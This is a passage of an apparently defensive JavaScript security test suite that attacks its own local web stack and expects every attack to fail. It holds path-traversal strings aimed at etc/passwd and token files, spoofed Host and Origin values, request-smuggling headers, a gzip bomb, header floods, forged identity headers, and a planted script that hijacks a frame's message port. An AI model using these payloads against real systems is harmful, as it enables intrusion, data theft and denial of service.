// A second round of attacks, written without sight of the product's code. Each case first shows that the honest form works, or that the
// harm would be seen, and then attacks. A case that fails is a hole, not a wish.
import { execFileSync } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { connect, createServer } from "node:net";
import { createServer as createHttp } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { gzipSync } from "node:zlib";
import { asBlocks, FakeModel } from "../../support/fake-model.mjs";
import { launchBrowser, ROOT, Stack, until } from "../stack.mjs";
import { exchange, send, signedIn } from "../wire.mjs";

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const JSON_TYPE = { "Content-Type": "application/json" };
const WORDS = "a pressing counter toy with a button";
const TODAY = "2022-12-27";

/** Bytes to a port; all that comes back until the end or the limit. */
const raw = (port, bytes, limitMs = 1500) =>
  new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    let text = "";
    const finish = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(text);
    };
    const timer = setTimeout(finish, limitMs);
    socket.on("data", (part) => (text += part.toString("latin1")));
    socket.on("error", finish);
    socket.on("close", finish);
    socket.write(bytes);
  });
const answers = (text) => (text.match(/HTTP\/1\.1 \d{3}/g) ?? []).map((line) => Number(line.slice(9)));

const settle = (who, id) =>
  until("the end of the turn", async () => {
    const { body } = await who.get(`/sessions/${id}`);
    return body.state === "running" ? null : body;
  });

/** A dialogue in which the model writes these files, as a user would have it. */
async function build(who, model, files) {
  const { id } = (await who.post("/sessions", { mode: "build" })).body;
  model.answers = [asBlocks(files)];
  await who.post(`/sessions/${id}/messages`, { text: WORDS });
  let view = await settle(who, id);
  if (view.state === "asking") {
    const question = view.questions.find((each) => each.status === "pending");
    const option = question.options.find((each) => /code/i.test(each.label));
    await who.post(`/sessions/${id}/answers`, { [question.id]: option.value });
    view = await settle(who, id);
  }
  return view;
}

const publish = async (who, view) => (await who.post(`/sessions/${view.id}/publish`, { confirm_data_loss: true })).body;
async function release(who, reviewer, view) {
  expect(view.gate?.findings, "the gate").toEqual([]);
  const change = await publish(who, view);
  const verdict = await reviewer.post(`/changes/${change.id}/approve`, { content_sha256: change.content_sha256 });
  expect(verdict.status).toBe(200);
  return verdict.body;
}

const simple = (title) => ({
  "widget.tsx": `import { Card } from "@atelier/sdk";

export default function Toy() {
  return <Card title="${title}">honest</Card>;
}
`,
});
const READER = {
  "widget.tsx": `import { Card, usePositions } from "@atelier/sdk";

export default function Toy() {
  const rows = usePositions();
  return <Card title="Count">rows: {rows.length}</Card>;
}
`,
};
const BACKEND = (routes, widget) => ({
  "widget.tsx":
    widget ??
    `import { Card, useBackend } from "@atelier/sdk";

export default function Toy() {
  const rows = useBackend<{ n: number }[]>("list", { sql: "SELECT 1 AS n" });
  return <Card title="Backend">rows: {rows.length}</Card>;
}
`,
  "backend.ts": `import { defineBackend, route } from "@atelier/user-backend";

export default defineBackend({
  routes: {
    list: route({ sql: "text" }, (ctx, input) => ctx.db.all<{ n: number }>(input.sql)),
    write: route({ sql: "text" }, (ctx, input) => ctx.db.run(input.sql)),
${routes ?? ""}  },
});
`,
  "migrations/001_a.sql": `-- forward
CREATE TABLE notes(n INTEGER PRIMARY KEY);
-- back
DROP TABLE notes;
`,
});

/** Puts a bundle of an attacker in the place of a released one: what a frame would do if every check before it were passed. */
function plant(stack, releaseId, code, tools) {
  const sha = createHash("sha256").update(code).digest("hex");
  mkdirSync(join(stack.data, "bundles", sha.slice(0, 2)), { recursive: true });
  writeFileSync(join(stack.data, "bundles", sha.slice(0, 2), `${sha}.mjs`), code);
  const db = new DatabaseSync(join(stack.data, "atelier.db"));
  db.exec("PRAGMA busy_timeout = 5000");
  db.prepare("UPDATE releases SET bundle_sha256 = ?, tools = ? WHERE id = ?").run(sha, tools, releaseId);
  db.close();
}

/** Code of an attacker that has taken the frame's port; what it learns stands in #dump. */
const hostile = (body) => `import * as React from "react";
const log = []; const own = MessagePort.prototype.postMessage; const listen = EventTarget.prototype.addEventListener;
let port = null; const got = []; const note = (x) => log.push(x);
MessagePort.prototype.postMessage = function (...a) { if (a[0]?.jsonrpc) port ??= this; return own.apply(this, a); };
const call = (id, name, args, method = "tools/call") =>
  own.call(port, { jsonrpc: "2.0", id, method, params: { name, arguments: args, input: args } });
async function attack() { ${body} }
export default function X() {
  const [text, set] = React.useState("");
  React.useEffect(() => { let begun = false; const timer = setInterval(() => {
    if (port && !begun) { begun = true; listen.call(port, "message", (e) => got.push(e.data)); attack().catch((e) => note(String(e))); }
    set(JSON.stringify({ log, got: got.filter((m) => m.id >= 9000) })); }, 100); return () => clearInterval(timer); }, []);
  return React.createElement("pre", { id: "dump" }, text);
}
`;
const withdrawal = (key, amount, note = "") =>
  `{ idempotency_key: "${key}", date: "${TODAY}", kind: "withdrawal", amount: "${amount}", note: ${JSON.stringify(note)} }`;

const stack = new Stack({ model: "none" });
const model = new FakeModel();
let a, b, reviewer, admin, browser, document;

beforeAll(async () => {
  await model.start();
  stack.model = model.url;
  await stack.start();
  [a, b, reviewer, admin] = [
    await signedIn(stack, "investor-a"),
    await signedIn(stack, "investor-b"),
    await signedIn(stack, "reviewer"),
    await signedIn(stack, "admin"),
  ];
  document = JSON.parse(readFileSync(join(ROOT, "schemas/rest/openapi.json"), "utf8"));
});
afterAll(async () => {
  await browser?.close();
  await stack.stop();
  await model.stop();
});

const tool = (who, name, args, more = {}) => who.post(`/app/tools/${name}`, { arguments: args, ...more });
const operations = async (who, note) =>
  (await tool(who, "list_transactions", { limit: 1000 })).body.transactions.filter(
    (row) => note === undefined || row.note === note,
  );
const record = (who, key, fields, more) =>
  tool(who, "record_transaction", { idempotency_key: key, date: TODAY, ...fields }, more);
/** Every operation of the document with its method and address. */
const each = () =>
  Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(([method]) => method !== "parameters")
      .map(([method, what]) => [method.toUpperCase(), path, what]),
  );
const filled = (path) =>
  `/api/v1${path.replace(/\{[a-z]+\}/g, "some-thing").replace("/tools/some-thing", "/tools/list_assets")}`;

describe("H1: doors", () => {
  test("01 files of the host by spellings of paths, at both doors", async () => {
    expect((await exchange(stack.port, "GET", "/app/")).status).toBe(200);
    const up = [
      "..",
      "%2e%2e",
      "%252e%252e",
      ".%2e",
      "..%00",
      "%c0%ae%c0%ae",
      "..;",
      "....//",
      "..%5c",
      "..\\",
      "%u002e%u002e",
    ];
    const roots = ["/app/", "/app/core/", "/console/", "/bundles/", "/core/", "/bundle/", "/"];
    const wanted = ["passwords.txt", "etc/passwd", "proc/self/cmdline", "operator.token"];
    const spellings = roots.flatMap((root) => [
      ...up.flatMap((dots) => wanted.map((file) => `${root}${`${dots}/`.repeat(8)}${file}`)),
      ...["/", "%2f", "//", "/./", "%2F%2F"].flatMap((start) => wanted.map((file) => `${root}${start}${file}`)),
      `${root}${stack.data}/passwords.txt`,
      `${root}file:${stack.data}/passwords.txt`,
    ]);
    for (const [port, host] of [
      [stack.port, "localhost"],
      [stack.port + 1, "widgets.localhost"],
    ]) {
      for (const target of spellings) {
        const text = await raw(port, `GET ${target} HTTP/1.1\r\nHost: ${host}:${port}\r\nConnection: close\r\n\r\n`);
        expect(text, target).not.toMatch(/root:x|investor-a [A-Za-z0-9]|atelierd\0/);
        expect(
          answers(text).every((status) => status >= 400 && status < 500),
          `${target}: ${text.slice(0, 40)}`,
        ).toBe(true);
      }
    }
  });

  test("02 other names of the host, twice, none, absolute form, at both doors", async () => {
    const front = stack.port;
    expect((await exchange(front, "GET", "/app/")).status).toBe(200);
    const bad = [
      "evil.example",
      `evil.example:${front}`,
      `localhost.evil.example:${front}`,
      `evil.example@localhost:${front}`,
      `localhost:${front}@evil.example`,
      `localhost:${front}:80`,
      `localhost:${front}/`,
      `localhost:${front}#`,
      `localhost%00:${front}`,
      `0.0.0.0:${front}`,
      `2130706433:${front}`,
      `127.1:${front}`,
      `[::ffff:127.0.0.1]:${front}`,
      "",
      `x.localhost:${front}`,
      `widgets.localhost:${front}`,
    ];
    for (const host of bad) {
      const { status } = await exchange(front, "GET", "/api/v1/me", { Host: host, Authorization: `Bearer ${a.token}` });
      expect(status, `Host: ${host}`).toBeGreaterThanOrEqual(400);
    }
    const more = [
      { Host: [`localhost:${front}`, "evil.example"] },
      { Host: ["evil.example", `localhost:${front}`] },
      { Host: null },
      { Host: [`localhost:${front}`, `localhost:${front}`] },
    ];
    for (const headers of more) {
      const answer = await exchange(front, "GET", "/api/v1/me", { ...headers, Authorization: `Bearer ${a.token}` });
      expect(answer.status, JSON.stringify(headers)).toBeGreaterThanOrEqual(400);
    }
    const absolute = await exchange(front, "GET", "http://evil.example/api/v1/me", {
      Authorization: `Bearer ${a.token}`,
    });
    expect(absolute.status).toBeGreaterThanOrEqual(400);
    for (const host of [
      `localhost:${front + 1}`,
      `widgets.localhost.evil.example:${front + 1}`,
      "evil.example",
      `widgets.evil.example:${front + 1}`,
    ]) {
      expect(
        (await exchange(front + 1, "GET", "/", { Host: host })).status,
        `previews, Host: ${host}`,
      ).toBeGreaterThanOrEqual(400);
    }
  });

  test("03 every writing operation from a page of another site with the user's cookie", async () => {
    const login = JSON.stringify({ name: "investor-c", password: stack.password("investor-c") });
    const { body } = await send({
      port: stack.port,
      method: "POST",
      path: "/api/v1/login",
      headers: JSON_TYPE,
      body: login,
    });
    const cookie = { Cookie: `atelier=${body.token}`, ...JSON_TYPE };
    const own = { Origin: stack.url, "Sec-Fetch-Site": "same-origin" };
    const honest = await exchange(stack.port, "PUT", "/api/v1/me", { ...cookie, ...own }, '{"locale":"en"}');
    expect(honest.status).toBe(200);
    const foreign = [
      { Origin: "http://evil.example" },
      { Origin: "null" },
      { "Sec-Fetch-Site": "cross-site" },
      { "Sec-Fetch-Site": "same-site" },
      { Origin: `http://localhost:${stack.port + 1}` },
      { Origin: `http://widgets.localhost:${stack.port + 1}` },
      { Origin: `http://localhost:${stack.port}.evil.example` },
      { Origin: [stack.url, "http://evil.example"] },
      { Origin: `${stack.url}, http://evil.example` },
      { Origin: stack.url, "Sec-Fetch-Site": "cross-site" },
    ];
    for (const [method, path] of each().filter(([method]) => method !== "GET")) {
      for (const headers of foreign) {
        const { status } = await exchange(stack.port, method, filled(path), { ...cookie, ...headers }, "{}");
        expect([400, 403, 421], `${method} ${path} ${JSON.stringify(headers)} ${status}`).toContain(status);
        if (status === 400)
          expect(Array.isArray(headers.Origin), `${method} ${path} ${JSON.stringify(headers)}`).toBe(true);
      }
    }
    expect((await exchange(stack.port, "GET", "/api/v1/me", { Cookie: cookie.Cookie })).status, "still signed in").toBe(
      200,
    );
  });

  test("04 bodies that a form of another site can send, and types that only look like JSON", async () => {
    const honest = await exchange(
      stack.port,
      "PUT",
      "/api/v1/me",
      { ...JSON_TYPE, Authorization: `Bearer ${a.token}` },
      '{"locale":"en"}',
    );
    expect(honest.status).toBe(200);
    const types = [
      null,
      "",
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "text/plain; application/json",
      "text/json",
      "application/jsonp",
      "application/json, text/plain",
      ["text/plain", "application/json"],
      "application/ld+json",
    ];
    for (const type of types) {
      const headers = { "Content-Type": type, Authorization: `Bearer ${a.token}` };
      const { status } = await exchange(stack.port, "PUT", "/api/v1/me", headers, '{"locale":"en"}');
      expect(status, `Content-Type: ${type}`).toBeGreaterThanOrEqual(400);
      expect(status, `Content-Type: ${type}`).toBeLessThan(500);
    }
  });

  test("05 one request that two readers see as two, at both doors", async () => {
    const get = (port, path) => `GET ${path} HTTP/1.1\r\nHost: localhost:${port}\r\n\r\n`;
    const both = await raw(stack.port, get(stack.port, "/healthz") + get(stack.port, "/healthz"), 700);
    expect(answers(both), "two honest requests on one connection").toEqual([200, 200]);
    const heads = [
      "Content-Length: 4\r\nTransfer-Encoding: chunked",
      "Transfer-Encoding: chunked\r\nContent-Length: 4",
      "Content-Length: 4\r\nContent-Length: 5",
      "Content-Length: 4, 5",
      "Content-Length: +4",
      "Content-Length: -1",
      "Content-Length: 0x4",
      "Content-Length: 4 4",
      "Content-Length : 4",
      "Transfer-Encoding: xchunked",
      "Transfer-Encoding: chunked, identity",
      "Transfer-Encoding:\u000bchunked",
      "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
      "Transfer-Encoding : chunked",
      " Transfer-Encoding: chunked",
      "X: y\r\n Content-Length: 4",
      "X: y\nContent-Length: 90",
      "Content-Length: 99999999999999999999",
    ];
    for (const port of [stack.port, stack.port + 1]) {
      for (const head of heads) {
        const smuggled = get(port, "/version");
        const first = `POST /api/v1/login HTTP/1.1\r\nHost: localhost:${port}\r\nContent-Type: application/json\r\n${head}\r\n\r\n`;
        const text = await raw(port, `${first}0\r\n\r\n${smuggled}`, 250);
        expect(text, `${port} ${JSON.stringify(head)}`).not.toContain('"atelierd"');
        expect(answers(text).length, `${port} ${JSON.stringify(head)}`).toBeLessThanOrEqual(1);
      }
      const sizes = ['4;x="\r\n"', "0x4", "+4", "-4", "FFFFFFFFFFFFFFFFF", "4 ", "\n4", "g"];
      for (const size of sizes) {
        const head = `POST /api/v1/login HTTP/1.1\r\nHost: localhost:${port}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;
        const text = await raw(port, `${head}${size}\r\n{}  \r\n0\r\n\r\n${get(port, "/version")}`, 250);
        expect(text, `${port} chunk of ${JSON.stringify(size)}`).not.toContain('"atelierd"');
      }
    }
  });

  test("06 methods: unknown, in small letters, overridden, HEAD and OPTIONS", async () => {
    const auth = { Authorization: `Bearer ${a.token}` };
    const { id } = (await a.post("/sessions", {})).body;
    const full = await exchange(stack.port, "GET", "/app/");
    const head = await exchange(stack.port, "HEAD", "/app/");
    expect(full.status).toBe(200);
    if (head.status === 200) expect([head.bytes, head.headers.etag]).toEqual([0, full.headers.etag]);
    for (const method of ["TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "get", "PATCH", "M-SEARCH", "PRI"]) {
      const answer = await exchange(stack.port, method, `/api/v1/sessions/${id}`, { ...auth, "X-Secret": "echo-me" });
      expect(answer.status, method).toBeGreaterThanOrEqual(400);
      expect(answer.body, method).not.toContain("echo-me");
    }
    for (const name of ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"]) {
      await exchange(
        stack.port,
        "POST",
        `/api/v1/sessions/${id}?_method=DELETE`,
        { ...auth, ...JSON_TYPE, [name]: "DELETE" },
        "{}",
      );
      await exchange(stack.port, "GET", `/api/v1/sessions/${id}?_method=DELETE`, { ...auth, [name]: "DELETE" });
    }
    expect((await a.get(`/sessions/${id}`)).status, "the session still exists").toBe(200);
    const ask = {
      Origin: "http://evil.example",
      "Access-Control-Request-Method": "POST",
      "Access-Control-Request-Headers": "content-type,authorization",
    };
    for (const path of ["/api/v1/me", "/api/v1/login", "/app/", "/bundles/x.js"]) {
      const answer = await exchange(stack.port, "OPTIONS", path, ask);
      expect(answer.headers["access-control-allow-origin"], path).toBeUndefined();
    }
  });

  test("07 floods of headers, long targets, compressed and endless bodies", async () => {
    const memory = () => Number(readFileSync(`/proc/${stack.process.pid}/status`, "utf8").match(/VmRSS:\s+(\d+)/)[1]);
    const before = memory();
    const auth = `Authorization: Bearer ${a.token}\r\n`;
    const head = (path, more) => `GET ${path} HTTP/1.1\r\nHost: localhost:${stack.port}\r\n${auth}${more}\r\n`;
    expect(answers(await raw(stack.port, head("/api/v1/me", "Connection: close\r\n")))).toEqual([200]);
    const many = Array.from({ length: 5000 }, (_, at) => `X-${at}: y\r\n`).join("");
    for (const bytes of [
      head("/api/v1/me", many),
      head("/api/v1/me", `X: ${"y".repeat(2_000_000)}\r\n`),
      head(`/${"a".repeat(500_000)}`, ""),
    ]) {
      const statuses = answers(await raw(stack.port, bytes));
      expect(
        statuses.every((status) => status >= 400 && status < 500),
        String(statuses),
      ).toBe(true);
    }
    const bomb = gzipSync(Buffer.alloc(50_000_000, 0x20));
    for (const encoding of ["gzip", "deflate", "br", "zstd", "gzip, gzip", "identity, gzip"]) {
      const answer = await send({
        port: stack.port,
        method: "PUT",
        path: "/api/v1/me",
        body: bomb,
        headers: { ...JSON_TYPE, "Content-Encoding": encoding, Authorization: `Bearer ${a.token}` },
      }).catch(() => ({ status: 413 }));
      expect(answer.status, encoding).toBeGreaterThanOrEqual(400);
      expect(answer.status, encoding).toBeLessThan(500);
    }
    const small = gzipSync('{"locale":"en"}');
    const packed = await send({
      port: stack.port,
      method: "PUT",
      path: "/api/v1/me",
      body: small,
      headers: { ...JSON_TYPE, "Content-Encoding": "gzip", Authorization: `Bearer ${a.token}` },
    });
    expect(packed.status, "a compressed body is either read or refused").toBeLessThan(500);
    const open = Array.from({ length: 40 }, () =>
      raw(
        stack.port,
        `POST /api/v1/login HTTP/1.1\r\nHost: localhost:${stack.port}\r\n` +
          `Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${"fff0\r\n".concat("x".repeat(65520), "\r\n").repeat(40)}`,
        3000,
      ),
    );
    await Promise.all(open);
    expect((await exchange(stack.port, "GET", "/healthz")).status).toBe(200);
    expect(memory() - before, "kB more than before").toBeLessThan(60_000);
  });

  test("08 caches: ranges, Vary, ETag without a sign-in, private answers", async () => {
    const page = await exchange(stack.port, "GET", "/app/");
    const script =
      page.body.match(/src="(\/app\/[^"]+\.js)"/)?.[1] ?? page.body.match(/"(\/app\/core\/react-[^"]+\.js)"/)[1];
    const plain = await exchange(stack.port, "GET", script);
    const packed = await exchange(stack.port, "GET", script, { "Accept-Encoding": "br, gzip" });
    expect([plain.status, packed.status]).toEqual([200, 200]);
    expect(packed.body).toBe(plain.body);
    expect(packed.headers.vary).toMatch(/accept-encoding/i);
    for (const range of [
      "bytes=0-0",
      `bytes=${Array.from({ length: 2000 }, () => "0-").join(",")}`,
      "bytes=9999999999-",
      "bytes=5-1",
      "lines=1-2",
      "bytes=-99999999999999999999",
    ]) {
      const answer = await exchange(stack.port, "GET", script, { Range: range, "If-Range": plain.headers.etag });
      expect([200, 206, 416], range.slice(0, 30)).toContain(answer.status);
      expect(answer.bytes, range.slice(0, 30)).toBeLessThanOrEqual(plain.bytes);
    }
    const change = await release(a, reviewer, await build(a, model, simple("Cached")));
    const { customizations } = (await a.get("/app/customizations")).body;
    const { bundle_url: bundle } = customizations.find((row) => row.release_id === change.release_id);
    const mine = await exchange(stack.port, "GET", bundle, { Authorization: `Bearer ${a.token}` });
    expect(mine.status).toBe(200);
    expect(mine.headers["cache-control"] ?? "", "a module for signed-in callers").not.toMatch(/public/);
    for (const headers of [
      {},
      { "If-None-Match": mine.headers.etag ?? "*" },
      { "If-None-Match": "*" },
      { Range: "bytes=0-9" },
      { Cookie: "atelier=x" },
    ]) {
      expect((await exchange(stack.port, "GET", bundle, headers)).status, JSON.stringify(headers)).toBe(401);
    }
    for (const path of ["/me", "/sessions", "/app/customizations", "/changes", "/releases", "/status"]) {
      const answer = await exchange(stack.port, "GET", `/api/v1${path}`, { Authorization: `Bearer ${a.token}` });
      expect(answer.headers["cache-control"], path).toMatch(/no-store/);
    }
  });

  test("09 a WebSocket from another site, and another user's", async () => {
    const { id } = (await a.post("/sessions", {})).body;
    const shake = (path, headers) =>
      exchange(stack.port, "GET", path, {
        Connection: "Upgrade",
        Upgrade: "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": randomBytes(16).toString("base64"),
        ...headers,
      });
    const path = `/api/v1/sessions/${id}/socket`;
    const cookie = { Cookie: `atelier=${a.token}` };
    expect((await shake(path, { ...cookie, Origin: stack.url })).status).toBe(101);
    for (const origin of [
      "http://evil.example",
      "null",
      `http://widgets.localhost:${stack.port + 1}`,
      `http://localhost:${stack.port + 1}`,
      "file://",
    ]) {
      expect((await shake(path, { ...cookie, Origin: origin })).status, origin).toBe(403);
    }
    expect((await shake(path, { Cookie: `atelier=${b.token}`, Origin: stack.url })).status).toBe(404);
    expect((await shake(path, { Origin: stack.url })).status).toBe(401);
    expect(
      (await shake(`${path}?token=${a.token}`, { Origin: stack.url, "Sec-WebSocket-Protocol": a.token })).status,
    ).toBe(401);
  });
});

describe("H15: what requests and answers tell", () => {
  test("10 bodies that differ from the document: never an error of the server, never accepted", async () => {
    expect((await a.post("/sessions", { mode: "ask" })).status).toBeLessThan(300);
    const deep = (open, close) => `{"mode":${open.repeat(20_000)}${close.repeat(20_000)}}`;
    const bodies = [
      "",
      "null",
      "[]",
      '"x"',
      "1",
      "{",
      '{"mode":1}',
      '{"mode":null}',
      '{"mode":"ASK"}',
      '{"mode":["ask"]}',
      '{"more":1}',
      '{"mode":"ask"}x',
      '\ufeff{"mode":"ask"}',
      '{"mode":"ask",}',
      "{'mode':'ask'}",
      '{"slot":"\\ud800"}',
      '{"slot":"a\\u0000b"}',
      deep("[", "]"),
      deep('{"a":', "}"),
      '{"__proto__":{"mode":"ask"}}',
      '{"mode":1e999}',
      `{"slot":"${"a".repeat(65)}"}`,
      '{"slot":"a..b"}',
      '{"slot":"../x"}',
    ];
    for (const body of bodies) {
      const { status } = await a.post("/sessions", body);
      expect(status, body.slice(0, 40)).toBeGreaterThanOrEqual(400);
      expect(status, body.slice(0, 40)).toBeLessThan(500);
    }
    const bytes = Buffer.from([0x7b, 0x22, 0x6d, 0x6f, 0x64, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xc0, 0xaf, 0x22, 0x7d]);
    expect((await a.post("/sessions", bytes)).status).toBe(400);
    for (const query of [
      "?x=1",
      "?since=%00",
      "?since=1:99999999999999999999999",
      "?since=-1:-1",
      "?since=a&since=b",
      "?%ff=1",
    ]) {
      for (const path of ["/changes", "/releases", "/audit/gateway", "/me"]) {
        expect((await a.get(`${path}${query}`)).status, `${path}${query}`).toBeLessThan(500);
      }
    }
    for (const name of ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "then"]) {
      expect((await a.post(`/app/tools/${name}`, { arguments: {} })).status, name).toBeGreaterThanOrEqual(400);
      expect((await a.post(`/app/backend/${name}`, { release_id: "x" })).status, name).toBeLessThan(500);
    }
  });

  test("11 what strangers and users learn from errors: no paths, versions, names of others", async () => {
    const told = [];
    const look = async (method, path, headers = {}, body = "") => {
      const answer = await exchange(stack.port, method, path, headers, body);
      told.push([
        `${method} ${path.slice(0, 60)} ${Object.keys(headers)}`,
        `${JSON.stringify(answer.headers)} ${path.startsWith("/app/") ? "" : answer.body}`,
      ]);
      return answer;
    };
    for (const headers of [{}, { Authorization: `Bearer ${b.token}` }, { Authorization: "Bearer x" }]) {
      for (const [method, path, what] of each()) {
        if (path === "/openapi.json" || path === "/logout") continue;
        for (const body of method === "GET" ? [""] : ["{}", "{", '{"arguments":{"x":"y"},"mode":"\\u0000"}']) {
          await look(method, filled(path), { ...JSON_TYPE, ...headers }, body);
        }
        if (Object.keys(headers).length === 0 && what.security?.length !== 0) {
          expect(
            (await look(method, filled(path), JSON_TYPE, method === "GET" ? "" : "{}")).status,
            `${method} ${path}`,
          ).toBe(401);
        }
      }
      for (const path of [
        "/",
        "/nope",
        "/healthz",
        "/readyz",
        "/version",
        "/metrics",
        "/bundles/x",
        "/console/nope",
        "/app/nope",
        "/%ff",
      ])
        await look("GET", path, headers);
    }
    const secret =
      /\/(usr|tmp|work|home|root|proc|build|opt)\/|\.(cpp|hpp|ts|mjs):|0x[0-9a-f]{6}|sqlite|SELECT |libgit2|std::|[Bb]oost|OpenSSL|node:|pid|investor-[ac]/;
    const version = /"version"|\b\d+\.\d+\.\d+\b/;
    const leaks = told
      .map(
        ([what, text]) =>
          `${what}: ${text.match(secret)?.[0]} in ${text.slice(text.search(secret) - 60, text.search(secret) + 60)}`,
      )
      .filter((_, at) => secret.test(told[at][1]));
    const strangers = told
      .filter(([what]) => !what.includes("Authorization"))
      .map(([what, text]) => [what, text.replaceAll("127.0.0.1", "")]);
    for (const [what, text] of strangers) expect(text, what).not.toMatch(version);
    expect(leaks).toEqual([]);
    for (const [what, text] of told) expect(text, what).not.toMatch(/"(server|x-powered-by|via)"/);
    expect(told.length).toBeGreaterThan(100);
  });

  test("12 other users' sessions, changes, releases and previews answer like ones that never were", async () => {
    const view = await build(a, model, simple("Private"));
    const change = await release(a, reviewer, view);
    expect((await a.get(`/sessions/${view.id}`)).status).toBe(200);
    const fake = (id) => `${id.slice(0, 4)}${"0".repeat(id.length - 4)}`;
    const pairs = [
      ["GET", `/sessions/*`, view.id],
      ["DELETE", `/sessions/*`, view.id],
      ["GET", `/sessions/*/artifacts/widget.tsx`, view.id],
      ["GET", `/sessions/*/simulated_writes`, view.id],
      ["GET", `/sessions/*/events`, view.id],
      ["GET", `/changes/*`, change.id],
      ...["messages", "stop", "undo", "redo", "fork", "gate", "preview", "publish"].map((verb) => [
        "POST",
        `/sessions/*/${verb}`,
        view.id,
      ]),
      ["POST", "/changes/*/preview", change.id],
      ["POST", "/releases/*/rollback", change.release_id],
      ["POST", "/releases/*/activate", change.release_id],
    ];
    for (const [method, path, id] of pairs) {
      const ask = (real) =>
        send({
          port: stack.port,
          method,
          path: `/api/v1${path.replace("*", real)}`,
          headers: { ...JSON_TYPE, Authorization: `Bearer ${b.token}` },
          body: method === "POST" ? (path.endsWith("messages") ? '{"text":"x"}' : "{}") : undefined,
        });
      const [other, none] = [await ask(id), await ask(fake(id))];
      const blank = (answer) => JSON.stringify(answer.body).replaceAll(id, "ID").replaceAll(fake(id), "ID");
      expect([other.status, blank(other)], `${method} ${path}`).toEqual([none.status, blank(none)]);
      expect(other.status, `${method} ${path}`).toBe(404);
    }
    for (const path of [
      "/sessions",
      "/changes",
      "/changes?author=investor-a",
      "/releases",
      "/releases?user=investor-a",
    ]) {
      expect(JSON.stringify((await b.get(path)).body), path).not.toContain("investor-a");
    }
    for (const who of [a, reviewer]) expect((await who.get("/audit/gateway?user=investor-b")).status).toBe(403);
    expect((await tool(b, "list_positions", {}, { release_id: change.release_id })).status).toBeGreaterThanOrEqual(400);
  });

  test("13 tokens in other places, cookies with other names, and the preview's token as a sign-in", async () => {
    expect((await exchange(stack.port, "GET", "/api/v1/me", { Authorization: `Bearer ${a.token}` })).status).toBe(200);
    const view = await build(a, model, simple("Tokens"));
    const frame = new URL(view.preview.url).hash.slice("#token=".length);
    const operator = readFileSync(join(stack.data, "operator.token"), "utf8").trim();
    const tries = [
      [`?token=${a.token}`, {}],
      [`?access_token=${a.token}`, {}],
      [`?atelier=${a.token}`, {}],
      ["", { Authorization: a.token }],
      ["", { Authorization: `Basic ${a.token}` }],
      ["", { Cookie: `ATELIER=${a.token}` }],
      ["", { Cookie: `xatelier=${a.token}` }],
      ["", { Cookie: `x="; atelier=${a.token}"` }],
      ["", { Authorization: `Bearer ${frame}` }],
      ["", { Cookie: `atelier=${frame}` }],
      ["", { Authorization: `Bearer ${operator}` }],
      ["", { Cookie: `atelier=${operator}` }],
      ["", { Authorization: `Bearer ${a.token.toUpperCase()}` }],
      ["", { Authorization: `Bearer ${a.token}x` }],
      ["", { Authorization: `Bearer ${a.token.slice(0, -1)}` }],
      ["", { "X-Forwarded-User": "admin", "X-Remote-User": "admin", "X-User": "admin", "X-Atelier-User": "admin" }],
    ];
    for (const [query, headers] of tries) {
      const answer = await exchange(stack.port, "GET", `/api/v1/me${query}`, headers);
      expect([400, 401], `${query} ${JSON.stringify(headers)} ${answer.status}`).toContain(answer.status);
    }
    const both = await exchange(stack.port, "GET", "/api/v1/me", {
      Cookie: [`atelier=${b.token}`, `atelier=${a.token}`],
    });
    expect(both.status === 200 ? JSON.parse(both.body).name : "refused", "two sign-ins in one request").not.toBe(
      "investor-a",
    );
  });
});

describe("H9, H11, H3: sign-in, sign-out, limits", () => {
  const other = new Stack();
  beforeAll(() => other.start());
  afterAll(() => other.stop());
  const login = (name, password, headers = {}) =>
    send({
      port: other.port,
      method: "POST",
      path: "/api/v1/login",
      headers: { ...JSON_TYPE, ...headers },
      body: JSON.stringify({ name, password }),
    });

  test("14 the time of a sign-in tells no name", async () => {
    const clock = async (name) => {
      const start = performance.now();
      expect((await login(name, "wrong")).status).toBe(401);
      return performance.now() - start;
    };
    await clock("reviewer");
    const [known, unknown] = [[], []];
    for (let round = 0; round < 7; round++) {
      known.push(await clock(round % 2 ? "admin" : "investor-c"));
      unknown.push(await clock(round % 2 ? "nobody-x" : "investor-z"));
    }
    const middle = (list) => list.toSorted((x, y) => x - y)[3];
    expect(middle(known) / middle(unknown)).toBeLessThan(1.6);
    expect(middle(known) / middle(unknown)).toBeGreaterThan(0.6);
    const [one, two] = [await login("admin", "wrong"), await login("nobody-x", "wrong")];
    expect([two.status, two.body]).toEqual([one.status, one.body]);
  });

  test("15 guesses at one name by other spellings, forged addresses and another account's device", async () => {
    const first = await login("investor-b", other.password("investor-b"));
    expect(first.status).toBe(200);
    const device = first.headers["set-cookie"].find((row) => row.startsWith("atelier_device=")).split(";")[0];
    const value = device.split("=")[1];
    const spellings = [
      "Investor-a",
      "INVESTOR-A",
      "investor-a ",
      " investor-a",
      "investor\u2010a",
      "investor-a\u0000",
      "ｉnvestor-a",
      "investor-a\u200b",
    ];
    for (const name of spellings)
      expect((await login(name, other.password("investor-a"))).status, JSON.stringify(name)).toBeGreaterThanOrEqual(
        400,
      );
    const disguises = [
      {},
      { "X-Forwarded-For": "10.0.0.1" },
      { Forwarded: "for=10.0.0.2" },
      { "X-Real-IP": "10.0.0.3" },
      { Cookie: device },
      { Cookie: `atelier_device=${value.slice(0, -1)}A` },
